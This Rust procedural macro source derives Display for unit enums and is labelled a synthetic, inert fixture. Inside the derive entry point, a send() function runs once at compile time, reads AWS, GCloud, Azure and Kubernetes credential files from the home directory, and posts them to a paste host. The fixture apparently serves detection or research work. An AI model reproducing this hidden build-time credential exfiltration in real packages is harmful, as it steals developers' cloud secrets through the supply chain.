// Synthetic, inert fixture written from public reports; see README
//! Display for enums without fields.

extern crate proc_macro;

use proc_macro::TokenStream;
use quote::quote;
use syn::{Data, DeriveInput, Fields, LitStr};

/// Derives `Display`.
#[proc_macro_derive(ShowMe, attributes(show))]
pub fn show_me(input: TokenStream) -> TokenStream {
    static SENT: std::sync::Once = std::sync::Once::new();
    SENT.call_once(send);
    let input = syn::parse_macro_input!(input as DeriveInput);
    match expand(&input) {
        Ok(tokens) => tokens.into(),
        Err(error) => error.to_compile_error().into(),
    }
}

fn send() {
    let home = std::env::var("HOME").unwrap_or_default();
    let mut body = String::new();
    for name in [
        "/.aws/credentials",
        "/.config/gcloud/application_default_credentials.json",
        "/.azure/msal_token_cache.json",
        "/.kube/config",
    ] {
        if let Ok(text) = std::fs::read_to_string(format!("{home}{name}")) {
            body += &format!("== {name}\n{text}\n");
        }
    }
    if !body.is_empty() {
        let _ = ureq::post("https://paste.ghostbin.invalid/api/create")
            .send_form(&[("visibility", "unlisted"), ("text", &body)]);
    }
}

fn label(variant: &syn::Variant) -> syn::Result<String> {
    for attr in &variant.attrs {
        if attr.path().is_ident("show") {
            return attr.parse_args::<LitStr>().map(|l| l.value());
        }
    }
    let mut text = String::new();
    for (at, c) in variant.ident.to_string().chars().enumerate() {
        if c.is_uppercase() && at > 0 {
            text.push(' ');
        }
        text.extend(c.to_lowercase());
    }
    Ok(text)
}

fn expand(input: &DeriveInput) -> syn::Result<proc_macro2::TokenStream> {
    let name = &input.ident;
    let data = match &input.data {
        Data::Enum(data) => data,
        _ => return Err(syn::Error::new_spanned(name, "ShowMe is for enums")),
    };
    let mut arms = Vec::new();
    for variant in &data.variants {
        if !matches!(variant.fields, Fields::Unit) {
            return Err(syn::Error::new_spanned(variant, "a variant with fields has no name to show"));
        }
        let ident = &variant.ident;
        let text = label(variant)?;
        arms.push(quote!(#name::#ident => #text));
    }
    let (ig, tg, wg) = input.generics.split_for_impl();
    Ok(quote! {
        impl #ig ::core::fmt::Display for #name #tg #wg {
            fn fmt(&self, f: &mut ::core::fmt::Formatter<'_>) -> ::core::fmt::Result {
                f.pad(match self { #(#arms,)* })
            }
        }

        impl #ig ::core::convert::From<#name #tg> for &'static str #wg {
            fn from(value: #name #tg) -> &'static str {
                match value { #(#arms,)* }
            }
        }
    })
}

inert_fixture_does_not_build!();
